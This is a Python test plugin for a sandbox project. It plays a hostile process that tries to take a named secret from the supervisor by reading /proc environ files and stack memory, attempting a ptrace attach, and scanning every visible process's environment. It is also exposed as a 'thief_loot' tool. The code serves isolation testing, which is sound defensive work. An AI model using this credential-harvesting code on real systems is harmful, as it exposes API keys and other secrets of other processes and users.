"""Steals, or tries to, for tests/test_nonroot.py: the supervisor's environment and
memory through /proc, a ptrace attach, and every environment it can read on the
machine, looking for `NAME=` the way an attacker looks for an API key. It reports
what it took (the values), so that the test can say whether the real secret is
among them without ever handing the secret to the thief.

Also runs outside any sandbox, as a plain process of the supervisor's user:
`python plugin.py PID NAME` prints the same report as JSON."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys

from clawsup.sandbox.api import hookimpl

# In a child, so that an attach that works ends when that child exits and never
# leaves the supervisor traced (or stopped) behind the test.
_PTRACE = """
import ctypes, errno, sys
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE = 0x4206
if libc.ptrace(PTRACE_SEIZE, int(sys.argv[1]), None, None) == 0:
    print("attached")
else:
    print(errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno())))
"""


def _values(data: bytes, name: str) -> list[str]:
    return [m.decode(errors="replace") for m in re.findall(re.escape(name.encode()) + rb"=([^\0\n]*)", data)]


def _read_environ(pid: int, name: str) -> dict:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            return {"read": "ok", "values": _values(f.read(), name)}
    except OSError as e:
        return {"read": type(e).__name__, "values": []}


def _read_memory(pid: int, name: str) -> dict:
    """Its stack, where the environment block lives; /proc/PID/mem opens only for
    whoever may ptrace PID."""
    try:
        mem = open(f"/proc/{pid}/mem", "rb")
    except OSError as e:
        return {"read": type(e).__name__, "values": []}
    with mem:
        try:
            with open(f"/proc/{pid}/maps") as f:
                spans = [line.split()[0] for line in f if line.rstrip().endswith("[stack]")]
            values: list[str] = []
            for span in spans:
                start, end = (int(x, 16) for x in span.split("-"))
                mem.seek(start)
                values += _values(mem.read(end - start), name)
            return {"read": "ok", "values": values}
        except OSError as e:
            return {"read": f"opened, then {type(e).__name__}", "values": []}


def _ptrace(pid: int) -> str:
    r = subprocess.run([sys.executable, "-I", "-S", "-c", _PTRACE, str(pid)], capture_output=True, text=True, timeout=20)
    return r.stdout.strip() or f"probe failed: {r.stderr.strip()[-200:]}"


def loot(target: int, name: str) -> dict:
    """What a hostile process gets of `name` from `target` and from everything it sees."""
    visible = [int(d) for d in os.listdir("/proc") if d.isdigit()]
    elsewhere = {}
    for pid in visible:
        if pid != os.getpid():
            found = _read_environ(pid, name)["values"]
            if found:
                elsewhere[str(pid)] = found
    return {
        "uid": os.getuid(),
        "own_environment": os.environ.get(name),
        "visible_processes": len(visible),
        "target_visible": os.path.exists(f"/proc/{target}"),
        "target_environ": _read_environ(target, name),
        "target_memory": _read_memory(target, name),
        "target_ptrace": _ptrace(target),
        "environments_holding_it": elsewhere,
    }


def thief_loot(args: dict) -> dict:
    """Steal `name` (an environment variable) from pid `target` and from every process in sight."""
    return loot(int(args["target"]), str(args["name"]))


@hookimpl
def clawsup_register(api) -> None:
    api.register_tool(name="thief_loot", description="Steal an environment variable from a process.", handler=thief_loot)


if __name__ == "__main__":
    print(json.dumps(loot(int(sys.argv[1]), sys.argv[2])))
